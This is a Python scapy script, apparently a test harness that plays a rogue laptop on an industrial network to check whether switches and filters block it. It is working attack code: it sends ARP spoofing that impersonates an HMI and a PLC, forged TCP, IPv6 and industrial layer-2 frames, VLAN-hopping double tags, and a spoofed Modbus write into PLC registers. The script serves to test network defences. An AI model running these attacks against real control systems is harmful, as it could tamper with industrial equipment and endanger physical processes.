"""What somebody with a laptop and scapy tries from a socket in the wall: ``rogue.py PARAMETERS``.

The parameters are JSON: ``interface``, ``nonce`` (hex), ``rogue``, ``hmi``, ``plc``, ``silent`` (each with
``ip`` and ``mac``; nobody asks for ``silent`` but this), ``first_port`` (of the TCP ports used for spoofed
connections), ``marks`` (first and last VLAN id). Every frame carries the nonce. Prints as JSON how many frames
of which kind were sent, and what became of the spoofed write.
"""

import json
import socket
import sys
from collections.abc import Iterator

from scapy.config import conf
from scapy.contrib.modbus import ModbusADURequest, ModbusPDU10WriteMultipleRegistersRequest
from scapy.layers.inet import ICMP, IP, TCP, UDP, fragment
from scapy.layers.inet6 import ICMPv6EchoRequest, ICMPv6ND_NA, ICMPv6ND_NS, IPv6
from scapy.layers.l2 import ARP, Dot1AD, Dot1Q, Ether
from scapy.packet import Packet, Raw
from scapy.sendrecv import srp1

BROADCAST = "ff:ff:ff:ff:ff:ff"
MODBUS = 502


class Attack:
    def __init__(self, parameters: dict):
        self.interface = parameters["interface"]
        self.nonce = bytes.fromhex(parameters["nonce"])
        self.rogue, self.hmi = parameters["rogue"], parameters["hmi"]
        self.plc, self.silent = parameters["plc"], parameters["silent"]
        self.port = parameters["first_port"]
        self.marks = range(parameters["marks"][0], parameters["marks"][1] + 1)

    def _as(self, source: dict, target: dict) -> Packet:
        return Ether(src=source["mac"], dst=target["mac"]) / IP(src=source["ip"], dst=target["ip"])

    def _raw(self) -> Packet:
        return Raw(self.nonce)

    def arp(self) -> Iterator[Packet]:
        """Asks as the HMI, and says that HMI and PLC were here."""
        for target in (self.plc, self.silent):
            for to in (BROADCAST, target["mac"]):
                yield Ether(src=self.hmi["mac"], dst=to) / ARP(
                    op="who-has", hwsrc=self.hmi["mac"], psrc=self.hmi["ip"], pdst=target["ip"]
                ) / self._raw()
        for claimed, victim in ((self.hmi, self.plc), (self.plc, self.hmi)):
            for to in (BROADCAST, victim["mac"]):
                yield Ether(src=self.rogue["mac"], dst=to) / ARP(
                    op="is-at", hwsrc=self.rogue["mac"], psrc=claimed["ip"], pdst=victim["ip"]
                ) / self._raw()
                yield Ether(src=claimed["mac"], dst=to) / ARP(
                    op="is-at", hwsrc=claimed["mac"], psrc=claimed["ip"], pdst=claimed["ip"]
                ) / self._raw()

    def icmp(self) -> Iterator[Packet]:
        for source, target in ((self.hmi, self.plc), (self.plc, self.hmi), (self.rogue, self.silent)):
            for sequence in range(3):
                yield self._as(source, target) / ICMP(id=0x5A5A, seq=sequence) / self._raw()

    def tcp(self) -> Iterator[Packet]:
        """SYN with data, and what might slip through as if it belonged to a session."""
        for flags in ("S", "A", "SA", "PA", "FA", "R", "F", ""):
            yield self._as(self.hmi, self.plc) / TCP(
                sport=self.port + 1, dport=MODBUS, flags=flags, seq=1000, ack=1
            ) / self._raw()
            yield self._as(self.plc, self.hmi) / TCP(
                sport=MODBUS, dport=self.port + 1, flags=flags, seq=1000, ack=1
            ) / self._raw()

    def udp(self) -> Iterator[Packet]:
        for target in (self.plc, {"ip": "255.255.255.255", "mac": BROADCAST}):
            yield self._as(self.hmi, target) / UDP(sport=self.port, dport=1502) / self._raw()

    def fragments(self) -> Iterator[Packet]:
        big = self._as(self.hmi, self.plc) / UDP(sport=self.port, dport=1502) / Raw(self.nonce * 60)
        yield from fragment(big, fragsize=480)

    def ipv6(self) -> Iterator[Packet]:
        source = "fe80::20c:29ff:fe7c:f011"
        everybody = Ether(src=self.hmi["mac"], dst="33:33:00:00:00:01") / IPv6(src=source, dst="ff02::1")
        yield everybody / ICMPv6EchoRequest(data=self.nonce)
        yield everybody / ICMPv6ND_NS(tgt="fe80::1") / self._raw()
        yield everybody / ICMPv6ND_NA(tgt=source) / self._raw()
        yield Ether(src=self.hmi["mac"], dst=self.plc["mac"]) / IPv6(src=source, dst="fe80::1") / UDP(
            sport=self.port, dport=MODBUS
        ) / self._raw()

    def layer2(self) -> Iterator[Packet]:
        """GOOSE, PROFINET DCP, LLDP, spanning tree, and an ethertype that nobody knows."""
        for to, ethertype in (
            ("01:0c:cd:01:00:01", 0x88B8),
            ("01:0e:cf:00:00:00", 0x8892),
            ("01:80:c2:00:00:0e", 0x88CC),
            (self.plc["mac"], 0x88B8),
            (self.plc["mac"], 0x9999),
            (BROADCAST, 0x9999),
        ):
            yield Ether(src=self.hmi["mac"], dst=to, type=ethertype) / self._raw()
        yield Ether(src=self.hmi["mac"], dst="01:80:c2:00:00:00", type=0x26) / Raw(
            b"\x42\x42\x03" + self.nonce
        )

    def tagged(self) -> Iterator[Packet]:
        """Forged marks of every port in both directions, double tags, priority tags."""
        inner = self._as(self.hmi, self.plc) / ICMP(id=0x5A5B) / self._raw()
        for vlan in self.marks:
            for priority in (3, 4):
                yield _tag(inner, Dot1Q(vlan=vlan, prio=priority))
        for vlan in (1, 8, 4095):
            yield _tag(inner, Dot1Q(vlan=vlan))
        for priority in (0, 3, 4, 6):
            yield _tag(inner, Dot1Q(vlan=0, prio=priority))
        for vlan in self.marks[::50]:
            yield _tag(inner, Dot1Q(vlan=vlan, prio=3) / Dot1Q(vlan=vlan, prio=4))
            yield _tag(inner, Dot1Q(vlan=0) / Dot1Q(vlan=vlan, prio=4))
            yield _tag(inner, Dot1AD(vlan=vlan, prio=4))
            yield _tag(inner, Dot1AD(vlan=vlan, prio=4) / Dot1Q(vlan=vlan, prio=4))

    def write(self) -> str:
        """A whole Modbus session as the HMI: handshake, and a write of the nonce into eight registers."""
        syn = self._as(self.hmi, self.plc) / TCP(sport=self.port, dport=MODBUS, flags="S", seq=5000)
        greeting = self._ask(syn)
        if greeting is None or TCP not in greeting:
            return "no answer to SYN"
        if greeting[TCP].flags != "SA":
            return f"SYN answered with {greeting[TCP].flags}"
        words = [int.from_bytes(self.nonce[i : i + 2], "big") for i in range(0, 16, 2)]
        request = ModbusADURequest(transId=1, unitId=1) / ModbusPDU10WriteMultipleRegistersRequest(
            startAddr=10, quantityRegisters=8, outputsValue=words
        )
        answer = self._ask(
            self._as(self.hmi, self.plc)
            / TCP(sport=self.port, dport=MODBUS, flags="PA", seq=5001, ack=greeting[TCP].seq + 1)
            / request,
            with_data=True,
        )
        if answer is None:
            return "no answer to the write"
        return bytes(answer[TCP].payload).hex()

    def _ask(self, packet: Packet, with_data: bool = False) -> Packet | None:
        if not with_data:
            return srp1(packet, iface=self.interface, timeout=3, verbose=False)
        # the bare ACK may come first; the answer is what carries bytes
        link = conf.L2socket(iface=self.interface)
        try:
            link.send(packet)
            heard = link.sniff(
                timeout=3,
                stop_filter=lambda p: self._carries(p),
                lfilter=lambda p: self._carries(p),
            )
            return heard[0] if heard else None
        finally:
            link.close()

    def _carries(self, packet: Packet) -> bool:
        return (
            TCP in packet
            and packet[TCP].sport == MODBUS
            and packet[TCP].dport == self.port
            and packet[IP].len > packet[IP].ihl * 4 + packet[TCP].dataofs * 4
        )


def _tag(packet: Packet, tags: Packet) -> Packet:
    """The packet with tags between its Ethernet header and its payload."""
    copy = packet.copy()
    header, payload = copy[Ether], copy[Ether].payload
    header.remove_payload()
    header.type = 0x88A8 if isinstance(tags, Dot1AD) else 0x8100
    tags.lastlayer().type = 0x0800
    return header / tags / payload


def main(parameters: dict) -> None:
    attack = Attack(parameters)
    sent = {}
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((attack.interface, 0))
        for kind in ("arp", "icmp", "tcp", "udp", "fragments", "ipv6", "layer2", "tagged"):
            frames = [bytes(packet) for packet in getattr(attack, kind)()]
            for frame in frames:
                wire.send(frame.ljust(60, b"\0"))
            sent[kind] = len(frames)
    print(json.dumps({"sent": sent, "write": attack.write()}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
